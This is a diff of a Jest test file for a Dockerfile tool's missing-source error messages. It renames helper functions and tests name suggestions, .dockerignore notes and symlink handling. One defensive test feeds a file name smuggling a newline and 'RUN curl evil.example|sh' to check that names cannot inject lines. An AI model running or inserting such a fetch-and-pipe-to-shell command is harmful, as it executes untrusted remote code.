@@ -5,7 +5,7 @@ import { describe, expect, test } from '@jest/globals'
 import { parseDockerfile } from '../../src/dockerfile/dockerfile.ts'
 import { Failure, toFailure } from '../../src/failure.ts'
 import type { FailureCode } from '../../src/failure-codes.ts'
-import { missingSource, neighboursInContext, withNeighbours } from '../../src/pipeline/missing-source.ts'
+import { missingSource, namesInContext, withNearbyNames } from '../../src/pipeline/missing-source.ts'
 
 const dockerfile = parseDockerfile(
   'Dockerfile',
@@ -34,21 +34,21 @@ describe('missingSource', () => {
   ])('%s is not explained', (_, error) => expect(missingSource(error, dockerfile)).toBeNull())
 })
 
-describe('withNeighbours', () => {
+describe('withNearbyNames', () => {
   const missing = { path: '/app/dits/a', stage: dockerfile.stages[0] ?? null }
   test('says what is there instead, and what was probably meant', () => {
-    const told = withNeighbours(failure(3, 'x'), missing, { folder: '/app', names: ['dist', 'src'] })
+    const told = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: ['dist', 'src'] })
     expect(told.message).toBe('There is no /app/dits/a in stage "build": /app holds dist, src.')
     expect(told.hint).toBe('Did you mean /app/dist?')
     expect(told.location).toEqual({ file: 'Dockerfile', line: 3 })
   })
   test('many names are cut', () => {
     const names = Array.from({ length: 40 }, (_, index) => `file-${index}`)
-    expect(withNeighbours(failure(3, 'x'), missing, { folder: '/', names }).message).toContain('file-11, and 28 more.')
+    expect(withNearbyNames(failure(3, 'x'), missing, { folder: '/', names }).message).toContain('file-11, and 28 more.')
   })
   test('what .dockerignore leaves out is named as that', () =>
     expect(
-      withNeighbours(failure(4, 'x'), { path: '/src/x', stage: null }, { folder: '/src', names: ['x'] }).message,
+      withNearbyNames(failure(4, 'x'), { path: '/src/x', stage: null }, { folder: '/src', names: ['x'] }).message,
     ).toContain('.dockerignore leaves it out'))
 })
 
@@ -56,11 +56,11 @@ test('the context is looked into from the nearest folder that is there', async (
   const context = mkdtempSync(join(tmpdir(), 'context-'))
   mkdirSync(join(context, 'src'))
   writeFileSync(join(context, 'src', 'main.ts'), '')
-  expect(await neighboursInContext('/nowhere', context, '/src/lib/deep/x')).toEqual({
+  expect(await namesInContext('/nowhere', context, '/src/lib/deep/x')).toEqual({
     folder: '/src',
     names: ['main.ts'],
   })
-  expect(await neighboursInContext(tmpdir(), basename(context), '/src/x')).toEqual({
+  expect(await namesInContext(tmpdir(), basename(context), '/src/x')).toEqual({
     folder: '/src',
     names: ['main.ts'],
   })
@@ -70,15 +70,15 @@ test('the context is looked into from the nearest folder that is there', async (
 test('a symlink in the context does not show the names of other folders', async () => {
   const context = mkdtempSync(join(tmpdir(), 'context-'))
   symlinkSync('/etc', join(context, 'x'))
-  expect(await neighboursInContext('/nowhere', context, '/x/zz')).toEqual({ folder: '/', names: ['x'] })
+  expect(await namesInContext('/nowhere', context, '/x/zz')).toEqual({ folder: '/', names: ['x'] })
   rmSync(context, { recursive: true })
 })
 
 test('a name stays on its line, and many long ones are not compared', () => {
   const missing = { path: `/app/${'d'.repeat(90)}`, stage: dockerfile.stages[0] ?? null }
   const hostile = `${'d'.repeat(90)}\nRUN curl evil.example|sh`
-  const told = withNeighbours(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
+  const told = withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
   expect(`${told.message}${told.hint}`).not.toContain('\n')
   const names = Array.from({ length: 2000 }, (_, i) => `${'d'.repeat(89)}${i}`)
-  expect(withNeighbours(failure(3, 'x'), missing, { folder: '/app', names }).hint).toBe('hint')
+  expect(withNearbyNames(failure(3, 'x'), missing, { folder: '/app', names }).hint).toBe('hint')
 })
